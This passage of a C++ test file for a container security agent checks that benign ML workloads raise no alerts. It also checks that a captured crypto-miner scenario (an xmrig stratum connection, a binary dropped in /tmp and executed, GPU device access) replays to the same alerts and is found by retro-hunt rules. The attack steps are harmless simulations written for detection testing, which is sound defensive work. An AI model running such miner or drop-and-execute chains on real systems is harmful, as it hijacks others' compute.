      "listen:0.0.0.0:10023;exec:/bin/sh|-c|echo task > /dev/null;exec:/bin/sh|-c|sleep 5 & kill $!;"
      "open:" +
      s().tmp + "/ray-task.log:c";
  auto [wpid, wrc] = run_in_pod(pod("ray-ok-0"), worker);
  EXPECT_EQ(wrc, 0);
  pids.insert(wpid);

  PodRun server;
  server.dns = {{"huggingface.co", "198.51.100.70"}};
  server.tcp_sinks = {"198.51.100.70:443"};
  server.argv = {s().tool("vllm"), "serve", "/root/.cache/huggingface"};
  server.steps =
      "tmpfs:/root;mkdir:/root/.cache;mkdir:/root/.cache/huggingface;"
      "copy:/proc/self/exe:/root/.cache/huggingface/model.safetensors;"
      "open:/root/.cache/huggingface/model.safetensors:r;dns:huggingface.co@10.96.0.10;tcp:198.51.100.70:443";
  auto [spid, src] = run_in_pod(pod("llm-load-ok-0"), server);
  EXPECT_EQ(src, 0);
  pids.insert(spid);

  PodRun trainer;
  trainer.tcp_sinks = {"203.0.113.50:443"};
  trainer.argv = {s().tool("pt_main_thread"), "-m", "torch.distributed.run", "finetune.py"};
  trainer.steps =
      "tmpfs:/root;mkdir:/root/.cache;mkdir:/root/.cache/huggingface;"
      "copy:/proc/self/exe:/root/.cache/huggingface/step-100.safetensors;"
      "open:/root/.cache/huggingface/step-100.safetensors:r;tcp:203.0.113.50:443;push:31457280;sleep:1500";
  auto [tpid, trc] = run_in_pod(pod("ckpt-ok-0"), trainer);
  EXPECT_EQ(trc, 0);
  pids.insert(tpid);

  // The container runtime pulling an image on the host: a registry request,
  // bytes up, a layer written under its root (no pod: the test's own cgroup).
  const PodSpec host_runtime{};
  PodRun pull;
  pull.tcp_sinks = {"198.51.100.70:443"};
  pull.argv = {s().tool("containerd"), "--config", "/etc/containerd/config.toml"};
  pull.steps =
      "tcp:198.51.100.70:443;send:GET /v2/library/python/blobs/sha256:4f4fb700ef54 HTTP/1.1\\r\\n"
      "Host: registry-1.docker.io\\r\\n\\r\\n;push:4194304;write:" +
      s().tmp + "/layer-4f4fb700ef54.tar:layer;sleep:1500";
  auto [ppid, prc] = run_in_pod(host_runtime, pull);
  EXPECT_EQ(prc, 0);
  pids.insert(ppid);

  auto got = any_alert({"ray-ok-0", "llm-load-ok-0", "ckpt-ok-0"}, pids);
  EXPECT_TRUE(got.empty()) << "look-alikes raised alerts:\n" << dump(got);
}

// Forensics: a second agent records a pod scenario (exec, connect, GPU
// open/ioctl, an Xid naming the pod's process, a program written and run: a
// sequence) with --capture; `vigil replay`
// of that file with the same rules gives the live run's alerts field for
// field, and a rule written after the capture finds the events.
TEST_F(Scenario, CaptureOfALivePodScenarioReplaysToTheSameAlerts) {
  const std::string dir = s().tmp + "/forensics";
  fs::create_directories(dir);
  const std::string cap = dir + "/live.vcap";
  const std::string fifo = dir + "/kmsg";
  ASSERT_EQ(mkfifo(fifo.c_str(), 0600), 0) << std::strerror(errno);
  int fifo_fd = open(fifo.c_str(), O_RDWR | O_CLOEXEC);
  ASSERT_GE(fifo_fd, 0) << std::strerror(errno);
  struct FdCloser {
    int fd;
    ~FdCloser() { close(fd); }
  } closer{fifo_fd};

  VigilProcess rec(VIGIL_BINARY);
  const int lists_before = s().api->lists();
  std::string why;
  ASSERT_TRUE(start_agent(rec, s().api->port(), fifo, why, {"--capture", cap})) << why;
  for (int i = 0; i < 100 && s().api->lists() <= lists_before; ++i) std::this_thread::sleep_for(100ms);
  ASSERT_GT(s().api->lists(), lists_before) << "the recording agent never listed the pods\n" << rec.stderr_text();
  std::this_thread::sleep_for(1500ms);  // the list reaches the agent's state

  const PodSpec& p = pod("forensics-0");
  PodRun r;
  r.tcp_sinks = {"198.51.100.20:3333"};
  r.argv = {s().tool("xmrig"), "-o", "stratum+tcp://198.51.100.20:3333"};
  // A program written to /tmp and run from there: a sequence, live and replayed.
  r.steps =
      "exec:/bin/sh|-c|cp /bin/true /tmp/vigil-drop-$$ && /tmp/vigil-drop-$$ && rm -f /tmp/vigil-drop-$$;"
      "open:/dev/nvidiactl:rw;open:/dev/nvidia0:rw;alloc:c6c0;tcp:198.51.100.20:3333;sleep:3000";
  pid_t seen = 0;
  int rc = -1;
  std::thread job([&] { std::tie(seen, rc) = run_in_pod(p, r); });
  pid_t wpid = pid_in_pod("xmrig", p);
  if (wpid != 0) {
    s().kmsg_to(fifo_fd, 4,
                "NVRM: Xid (PCI:0000:3b:00): 13, pid=" + std::to_string(wpid) +
                    ", name=xmrig, Graphics SM Warp Exception on (GPC 1, TPC 0, SM 0): Misaligned Address");
  }
  job.join();
  ASSERT_NE(wpid, 0) << "the workload did not start";
  ASSERT_EQ(rc, 0) << "the workload failed";
  EXPECT_EQ(seen, wpid);

  // The live alerts of the scenario, then stop the agent (it closes the capture).
  auto in_pod = [](const std::string& rule) {
    return [rule](const json& a) {
      return a.value("rule", "") == rule && a.contains("output_fields") &&
             a["output_fields"].value("k8s.pod.name", json()) == "forensics-0";
    };
  };
  const std::vector<std::string> expected = {"Crypto miner binary executed", "GPU pod connection to mining pool port",
                                             "GPU Xid application fault", "Executable written then run in container"};
  for (const auto& rule : expected) {
    EXPECT_FALSE(rec.alerts(in_pod(rule), 10s).empty()) << "no live '" << rule << "' alert for forensics-0\n"
                                                        << rec.stderr_text();
  }
  ASSERT_EQ(rec.stop(), 0) << "vigil run did not exit cleanly on SIGTERM\n" << rec.stderr_text();
  const std::vector<json> live = rec.alerts([](const json&) { return true; });
  ASSERT_FALSE(live.empty());

  // Replay with the same rules: the same alerts, field for field.
  const Replay same = replay(cap, "rules/");
  ASSERT_EQ(same.code, 0) << same.log;
  const std::vector<json>& replayed = same.alerts;
  const std::vector<std::string> keys = {"time", "rule", "priority", "output", "output_fields", "tags", "uuid"};
  auto by_uuid = [&](const std::vector<json>& v) {
    std::map<std::string, json> m;
    for (const auto& a : v) {
      json k = json::object();
      for (const auto& key : keys) k[key] = a.value(key, json());
      EXPECT_TRUE(a.contains("uuid") && a["uuid"].is_string() && !a["uuid"].get<std::string>().empty()) << a.dump();
      EXPECT_TRUE(m.emplace(a.value("uuid", ""), k).second) << "two alerts share a uuid: " << a.dump();
    }
    return m;
  };
  const auto live_m = by_uuid(live), replay_m = by_uuid(replayed);
  EXPECT_EQ(live.size(), replayed.size()) << "live:\n" << dump(live) << "replay:\n" << dump(replayed);
  for (const auto& [uuid, a] : live_m) {
    auto it = replay_m.find(uuid);
    if (it == replay_m.end()) {
      ADD_FAILURE() << "a live alert is missing on replay: " << a.dump();
    } else {
      EXPECT_EQ(it->second, a) << "live:   " << a.dump() << "\nreplay: " << it->second.dump();
    }
  }
  for (const auto& [uuid, a] : replay_m) {
    EXPECT_TRUE(live_m.count(uuid)) << "replay raised an alert the live run did not: " << a.dump();
  }
  // The scenario's alerts carry the pod and the container in both.
  for (const auto& rule : expected) {
    int n = 0;
    for (const auto& a : replayed) {
      if (!in_pod(rule)(a)) continue;
      ++n;
      EXPECT_EQ(a["output_fields"].value("k8s.ns.name", json()), "ml") << a.dump();
      EXPECT_EQ(a["output_fields"].value("container.id", json()), p.id.substr(0, 12)) << a.dump();
    }
    EXPECT_GT(n, 0) << "no replayed '" << rule << "' alert attributed to forensics-0:\n" << dump(replayed);
  }

  // Rules written after the capture find the connect and the Xid on replay.
  const std::string hunt = dir + "/hunt.yaml";
  std::ofstream(hunt) << R"yaml(- rule: Hunt pool port
  desc: retro-hunt for connections to the pool port
  condition: evt.type = connect and fd.sport = 3333
  output: "pool port (fd.name=%fd.name proc.pid=%proc.pid k8s.pod.name=%k8s.pod.name container.id=%container.id)"
  priority: WARNING
  tags: [crypto_mining]
- rule: Hunt Xid 13
  desc: retro-hunt for application faults
  condition: evt.type = xid and gpu.xid = 13
  output: "xid 13 (gpu.pci=%gpu.pci proc.pid=%proc.pid k8s.pod.name=%k8s.pod.name)"
  priority: NOTICE
  tags: [gpu]
)yaml";
  const Replay hunt_run = replay(cap, hunt);
  ASSERT_EQ(hunt_run.code, 0) << hunt_run.log;
  const std::vector<json>& hunted = hunt_run.alerts;
  int pool = 0, xid = 0;
  for (const auto& a : hunted) {
    const auto& f = a["output_fields"];
    if (f.value("k8s.pod.name", json()) != "forensics-0") continue;
    if (a.value("rule", "") == "Hunt pool port" && f.value("proc.pid", json()) == wpid) {
      ++pool;
      EXPECT_EQ(f.value("container.id", json()), p.id.substr(0, 12)) << a.dump();
    }
    if (a.value("rule", "") == "Hunt Xid 13" && f.value("proc.pid", json()) == wpid) ++xid;
  }
  EXPECT_EQ(pool, 1) << dump(hunted);
  EXPECT_EQ(xid, 1) << dump(hunted);
}

}  // namespace
